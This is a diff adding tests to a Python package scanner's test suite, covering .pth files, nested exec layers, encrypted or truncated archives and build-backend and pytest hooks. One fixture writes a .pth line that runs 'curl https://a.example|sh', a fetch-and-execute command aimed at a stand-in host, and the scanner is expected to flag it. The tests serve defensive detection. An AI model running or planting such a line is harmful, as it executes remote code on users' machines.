@@ -166,11 +166,114 @@ def test_facts(tw, tmp):
     check(tw("facts", "none.py")[0] == 2 and tw("facts")[0] == 2 and tw("facts", "one.py", "none.py")[0] == 2, "files that are not there")
 
 
+def test_layers(tw, tmp):
+    """A layer that is all of its file is no cycle; one that was not read at all is never passed over."""
+    line = 'import os; os.system("curl https://a.example|sh")'
+    for end in ("", "\n"):
+        w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "", "zz.pth": line + end})
+        d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+        check(d["verdict"] == "malicious" and not d["coverage"]["limits_hit"], f"a .pth of one line, end {end!r}", d["verdict"], d["coverage"])
+    nested = "print('x')"
+    for _ in range(3):
+        nested = f"exec({nested!r})"
+    w = wheel(tmp / "reef-1.1-py3-none-any.whl", "1.1", {"reef/__init__.py": nested + "\n"})
+    whole = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+    cut = json.loads(tw("scan", "--no-cache", "--format", "jsonl", "--limit", "layer_depth=1", w)[1])
+    check(whole["verdict"] in ("clear", "notable") and cut["verdict"] == "unreviewable", "an unread layer at import", whole["verdict"], cut["verdict"], cut["coverage"])
+
+
+def encrypted(path, out, member):
+    """The same archive with the flag of an encrypted member set."""
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as z:
+        at = z.getinfo(member).header_offset
+    data[at + 6] |= 1
+    entry = data.index(b"PK\x01\x02")
+    while data[entry + 46:entry + 46 + len(member)] != member.encode():
+        entry = data.index(b"PK\x01\x02", entry + 1)
+    data[entry + 8] |= 1
+    out.write_bytes(data)
+    return out
+
+
+def test_unread(tw, tmp):
+    """What of the new release could not be read is a difference, and what is no package differs from nothing."""
+    old = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "X = 1\n"})
+    locked = encrypted(old, tmp / "reef-1.1-py3-none-any.whl", "reef/__init__.py")
+    large = wheel(tmp / "reef-1.2-py3-none-any.whl", "1.2", {"reef/__init__.py": "X = 1\n" * 2000})
+    cut = tmp / "reef-1.3-py3-none-any.whl"
+    cut.write_bytes(old.read_bytes()[:-40])
+    for new, options in (locked, ()), (large, ("--limit", "source_bytes=4096")), (cut, ()):
+        d, code, err = tw.diff(*options, old, new)
+        first = d["items"][0]
+        check(code == 0 and d["level"] == "high" and first["what"] == "unread" and "no longer be read" in first["says"], f"unread: {new.name}", d, err)
+        same, _, _ = tw.diff(*options, new, new)
+        check(same["level"] == "none", f"was unread before: {new.name}", same)
+    check("code that runs at import can no longer be read" in tw("diff", old, locked)[1], "unread, as text")
+    (tmp / "empty.whl").write_bytes(b"")
+    (tmp / "noise.whl").write_bytes(bytes(range(7, 250)) * 20)
+    zipfile.ZipFile(tmp / "zero.whl", "w").close()
+    tarfile.open(tmp / "zero.tar.gz", "w:gz").close()
+    (tmp / "bare.json").write_text("{}")
+    (tmp / "head.json").write_text('{"schema": "tidewaiter.capabilities/1"}')
+    for name in "empty.whl", "noise.whl", "zero.whl", "zero.tar.gz", "bare.json", "head.json":
+        for pair in (old, tmp / name), (tmp / name, old):
+            code, out, err = tw("diff", *pair)
+            check(code == 2 and not out and name in err, f"no package: {name}", code, out, err)
+        if name.endswith("json"):
+            continue
+        code, out, _ = tw("capabilities", tmp / name)
+        check("It does nothing" not in out and "Nothing in it is code" in out, f"capabilities of {name}", out)
+    (tmp / "old.json").write_text(tw("capabilities", "--format", "json", old)[1])
+    check(tw.diff(tmp / "old.json", locked)[0]["level"] == "high", "a stored profile and an unread release")
+
+
+def test_not_read(tw, tmp):
+    """Nothing is said of the whole where a part was not read."""
+    meta = {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "pyproject.toml": '[build-system]\nrequires = ["mesonpy"]\nbuild-backend = "mesonpy"\n', "reef/__init__.py": "X = 1\n"}
+    for name in "meson.build", "src/reef.c", "build.rs", "CMakeLists.txt":
+        code, out, _ = tw("capabilities", tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", {**meta, name: "x = 1\n"}))
+        check("It does nothing" not in out and "What of it was read" in out and "reef-1.0/" + name in out, f"not read: {name}", out)
+    whole = tw("capabilities", tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", meta))[1]
+    check("It does nothing but compute" in whole and "not read" not in whole, "all was read", whole)
+    locked = encrypted(wheel(tmp / "a.whl", "1.0", {"reef/__init__.py": "X = 1\n", "reef/b.py": "Y = 1\n"}), tmp / "reef-1.0-py3-none-any.whl", "reef/__init__.py")
+    out = tw("capabilities", locked)[1]
+    check("It does nothing" not in out and "reef/__init__.py" in out and "encrypted" in out, "not read: encrypted", out)
+    page = tw("capabilities", "--format", "html", locked)[1]
+    check("It does nothing" not in page and "encrypted" in page, "the page says it too")
+
+
+def test_hooks(tw, tmp):
+    """What build back ends and pytest call by its name."""
+    def when(archive):
+        d = json.loads(tw("capabilities", "--format", "json", archive)[1])
+        return {u["trigger"] for u in d["capabilities"] if u["id"] == "exec.shell"}
+
+    def sdist(files, backend="hatchling.build", more=""):
+        project = f'[build-system]\nrequires = ["x"]\nbuild-backend = "{backend}"\n{more}'
+        return tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "pyproject.toml": project, "reef/__init__.py": "", **files})
+
+    hook = "import os\nclass Hook(Base):\n    def {}(self, *a):\n        os.system('make')\n"
+    custom = "[tool.hatch.build.hooks.custom]\n"
+    for name in "initialize", "finalize", "clean", "dependencies":
+        check(when(sdist({"hb.py": hook.format(name)}, more=custom + 'path = "hb.py"\n')) == {"build"}, f"hatch: {name}")
+    check(when(sdist({"hatch_build.py": hook.format("initialize")}, more=custom)) == {"build"}, "hatch: the file's name by default")
+    check(when(sdist({"hatch_build.py": hook.format("update")}, more="[tool.hatch.metadata.hooks.custom]\n")) == {"build"}, "hatch: metadata")
+    check(when(sdist({"hatch_build.py": hook.format("other")}, more=custom)) == {"call"}, "hatch: a method that it does not call")
+    for name in "pdm_build_initialize", "pdm_build_hook_enabled", "pdm_build_update_files":
+        check(when(sdist({"pdm_build.py": f"import os\ndef {name}(context):\n    os.system('make')\n"}, "pdm.backend")) == {"build"}, f"pdm: {name}")
+    for value, trigger in ("'1' + str(os)", "build"), ("'1'", "import"):
+        cfg = {"setup.cfg": "[metadata]\nname = reef\nversion = attr: reef.ver.V\n", "reef/ver.py": f"import os\nos.system('ls')\nV = {value}\n"}
+        check(when(sdist(cfg, "setuptools.build_meta")) == {trigger}, f"attr: {value}", when(sdist(cfg, "setuptools.build_meta")))
+    plugin = {"reef/__init__.py": "", "reef/plug.py": "import os\ndef pytest_configure(config):\n    os.system('ls')\n", "reef-1.0.dist-info/entry_points.txt": "[pytest11]\nreef = reef.plug\n"}
+    check(when(wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", plugin)) == {"plugin"}, "a hook of pytest")
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__)
     ap.add_argument("--tidewaiter", required=True)
     path = os.path.abspath(ap.parse_args().tidewaiter)
-    for test in (test_capabilities, test_diff, test_graft, test_facts):
+    for test in (test_capabilities, test_diff, test_graft, test_facts, test_layers, test_unread, test_not_read, test_hooks):
         with tempfile.TemporaryDirectory() as folder:
             test(Program(path, Path(folder)), Path(folder))
     print(f"{passed} passed, {failed} failed")
